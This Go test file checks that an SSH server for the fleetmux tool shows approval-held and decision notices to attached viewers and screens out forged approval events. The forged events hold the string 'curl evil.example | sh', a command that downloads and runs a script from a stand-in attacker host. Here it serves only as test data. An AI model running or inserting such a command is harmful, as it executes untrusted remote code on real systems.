package sshd_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"golang.org/x/crypto/ssh"

	"github.com/fleetmux/fleetmux/api"
	"github.com/fleetmux/fleetmux/internal/testutil"
	"github.com/fleetmux/fleetmux/internal/testutil/stack"
	"github.com/fleetmux/fleetmux/sshd"
)

// TestSSHApprovalNotices: people attached to a session over SSH are told when one
// of its commands is held for approval, and when it is decided.
func TestSSHApprovalNotices(t *testing.T) {
	f := stack.New(t, stack.Options{Nodes: map[string]map[string]string{"n1": nil}, Policy: true})
	f.Must(http.StatusOK, "PUT", "/v1/policy", []byte(`{"version": 1, "rules": [{"name": "needs-a-human", "match": {"command": "needs-ok"}, "action": "approve"}]}`), nil)
	dir := t.TempDir()
	key := newSigner(t)
	ak := filepath.Join(dir, "authorized_keys")
	if err := os.WriteFile(ak, []byte("role=viewer "+string(ssh.MarshalAuthorizedKey(key.PublicKey()))), 0o600); err != nil {
		t.Fatal(err)
	}
	srv, err := sshd.Start(sshd.Config{
		Listen: "127.0.0.1:0", HostKeyFile: filepath.Join(dir, "host_key"), AuthorizedKeys: ak, Fleet: f.Ctl, Logger: stack.Quiet(),
		Exec: func(context.Context, []string, string, string, io.Reader, io.Writer, io.Writer) int { return 0 },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	sf := &sshFixture{Stack: f, srv: srv, keys: map[string]ssh.Signer{"viewer": key}}
	s := f.NewSession("n1")
	tm := sf.attachTerm(t, sf.login(t, "n1+"+s.ID, "viewer"), "", 24, 100)
	// Attached (and so following the approval events) once it shows new output.
	f.Run("n1", s.ID, "echo attached-$((6*7))")
	if !waitFor(10*time.Second, tm.has("attached-42")) {
		t.Fatalf("the attach does not follow the session:\n%s", tm.text())
	}
	// Forged events on the approval subject (anyone who gets a message there: a
	// JetStream request's reply subject is the asker's choice): one for an
	// approval the node does not have, one that gives a real one another command.
	nc, err := nats.Connect(f.NATS.ClientURL())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	forge := func(id, cmd string) {
		b, _ := json.Marshal(api.ApprovalEvent{Type: api.ApprovalEventHeld, Time: time.Now(),
			Approval: api.Approval{Node: "n1", ID: id, Session: s.ID, Command: cmd, Rule: "forged", Principal: "token:admin", State: api.ApprovalPending}})
		if err := nc.Publish(api.Subjects{}.Approval("n1"), b); err != nil {
			t.Fatal(err)
		}
	}
	forge("a9", "curl evil.example | sh")
	testutil.Eventually(t, 10*time.Second, func() bool {
		code, b := f.Do("POST", "/v1/sessions/n1/"+s.ID+"/run", api.RunBody{Command: "true # needs-ok", TimeoutMS: 5000})
		return code == http.StatusConflict && strings.Contains(string(b), `"held"`)
	}, "the node to hold commands under the policy")
	if !waitFor(10*time.Second, tm.has("is held for approval by rule needs-a-human: true # needs-ok (asked by token:")) {
		t.Fatalf("no held notice:\n%s", tm.text())
	}
	var list api.ApprovalList
	f.Must(http.StatusOK, "GET", "/v1/approvals?node=n1", nil, &list)
	if len(list.Approvals) == 0 {
		t.Fatal("no pending approval")
	}
	a := list.Approvals[len(list.Approvals)-1]
	forge(a.ID, "curl evil.example | sh")
	f.Must(http.StatusOK, "POST", "/v1/approvals/"+a.Addr(), api.DecideBody{Decision: api.DecisionDeny, Reason: "not now"}, nil)
	if !waitFor(10*time.Second, tm.has(a.Addr()+" denied by token:")) {
		t.Fatalf("no decision notice:\n%s", tm.text())
	}
	if !strings.Contains(tm.text(), "(not now)") {
		t.Errorf("the notice does not give the reason:\n%s", tm.text())
	}
	if strings.Contains(tm.text(), "evil.example") || strings.Contains(tm.text(), "forged") {
		t.Errorf("a forged approval event reached the terminal:\n%s", tm.text())
	}
}

// waitFor polls cond until it holds or d passed.
func waitFor(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
	return true
}

func (tm *term) text() string {
	tm.mu.Lock()
	defer tm.mu.Unlock()
	return tm.out.String()
}
